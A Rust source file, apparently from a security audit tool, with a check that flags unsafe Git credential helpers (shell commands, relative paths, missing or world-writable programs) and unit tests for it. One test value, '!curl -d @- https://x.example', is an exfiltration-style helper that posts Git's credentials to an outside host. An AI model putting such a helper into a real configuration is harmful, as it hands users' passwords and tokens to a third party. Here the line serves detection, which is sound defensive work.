//! Credential helpers that are commands or programs by path: Git hands them your passwords.

use super::git;
use super::{Check, Fix, Found, Run};
use crate::facts::{Fact, Facts};
use crate::rule::{Profile, Safety, Severity};
use crate::settings::entry::Entry;
use crate::settings::predicate::suspicious_command;
use crate::target::Target;

pub(crate) const CHECK: Check = Check {
    id: "git.helper-shell",
    title: "Unsafe program as Git's credential helper",
    severity: Severity::High,
    why: "Git hands this program every password and token that it uses, and takes from it those that it sends. \
          Whoever can change the program has them.",
    advice: "Unset it and use the helper of your distribution or of your forge's own tool. If you do not know where it came \
             from, treat the passwords that Git has used as stolen.",
    command: Some("git config --file {path} --unset-all {key}"),
    safety: Safety::Review,
    profile: Profile::Default,
    references: &["https://git-scm.com/docs/gitcredentials"],
    run: Run::Entries("gitconfig", run),
    fix: Fix::Unset,
};

/// Folders that only root writes: a program that is missing there is no danger.
const SYSTEM: &[&str] = &["/usr/", "/bin/", "/sbin/", "/lib", "/opt/", "/nix/", "/snap/", "/etc/", "/mnt/"];

fn run(target: &Target<'_>, entries: &[Entry], facts: &dyn Facts) -> Vec<Found> {
    if git::is(target, git::MODULES) {
        return Vec::new();
    }
    let helper = |e: &&Entry| {
        e.key == "credential.helper" || (e.key.starts_with("credential.") && e.key.ends_with(".helper"))
    };
    let set = entries.iter().filter(helper);
    set.filter_map(|e| why(&e.value, facts).map(|why| git::found(e, why))).collect()
}

fn why(value: &str, facts: &dyn Facts) -> Option<&'static str> {
    let value = value.trim();
    let command = value.strip_prefix('!');
    // Anything else is the name of a `git credential-…` program.
    if command.is_none() && !value.starts_with('/') {
        return None;
    }
    if let Some(why) = suspicious_command(value) {
        return Some(why);
    }
    let program = first_word(command.unwrap_or(value).trim_start());
    let program = match program.strip_prefix("$HOME/") {
        Some(rest) => format!("~/{rest}"),
        None => program,
    };
    if program.starts_with("./") || program.starts_with("../") {
        return Some("depends on the folder that Git is used in");
    }
    if !program.starts_with(['/', '~']) {
        return None;
    }
    let path = git::path(facts, None, &program)?;
    // Disks of a Windows host show every file as open to all.
    let known = !path.starts_with("/mnt/");
    let missing = || facts.stat(&path) == Fact::Absent && !SYSTEM.iter().any(|dir| path.starts_with(dir));
    git::trouble(facts, &path).filter(|_| known).or_else(|| missing().then_some("there is no such program"))
}

/// The first word as the shell reads it.
fn first_word(command: &str) -> String {
    let mut word = String::new();
    let mut quote = None;
    let mut chars = command.chars();
    while let Some(c) = chars.next() {
        match (c, quote) {
            ('\\', None | Some('"')) => word.extend(chars.next()),
            (c, Some(open)) if c == open => quote = None,
            ('"' | '\'', None) => quote = Some(c),
            (c, None) if c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')') => break,
            (c, _) => word.push(c),
        }
    }
    word
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::git::tests::global;
    use crate::testing::Home;

    fn helper(home: Home, value: &str) -> bool {
        !global(home, CHECK.id, &format!("[credential]\n\thelper = \"{value}\"\n")).is_empty()
    }

    #[test]
    fn unsafe_programs_are_found() {
        assert!(helper(Home::default(), "/tmp/helper"));
        assert!(helper(Home::default(), "!~/bin/gone"));
        assert!(helper(Home::default(), "!./helper"));
        assert!(helper(Home::default(), "!curl -d @- https://x.example"));
        assert!(helper(Home::default().file_mode("~/bin/h", b"", 0o777), "/home/dev/bin/h get"));
        assert!(helper(Home::default().file_mode("~/my bin/h", b"", 0o777), "!'~/my bin/h' get"));
    }

    #[test]
    fn ordinary_ones_are_not() {
        for value in [
            "libsecret",
            "cache --timeout=3600",
            "store",
            "",
            "!gh auth git-credential",
            "!/usr/bin/gh auth git-credential",
            "/usr/lib/git-core/git-credential-libsecret",
            "!aws codecommit credential-helper $@",
            "!f() { echo username=me; pass git; }; f",
            "/mnt/c/Program\\\\ Files/Git/git-credential-manager.exe",
        ] {
            assert!(!helper(Home::default(), value), "{value}");
        }
        assert!(!helper(Home::default().file_mode("~/bin/h", b"", 0o755), "!~/bin/h"));
        assert!(!helper(Home::default().file_mode("~/bin/h", b"", 0o755), "!$HOME/bin/h"));
    }

    #[test]
    fn words_as_the_shell_has_them() {
        assert_eq!(first_word(r"/mnt/c/Program\ Files/x.exe get"), "/mnt/c/Program Files/x.exe");
        assert_eq!(first_word("\"/a b/c\" d"), "/a b/c");
        assert_eq!(first_word("f() { x; }; f"), "f");
    }
}
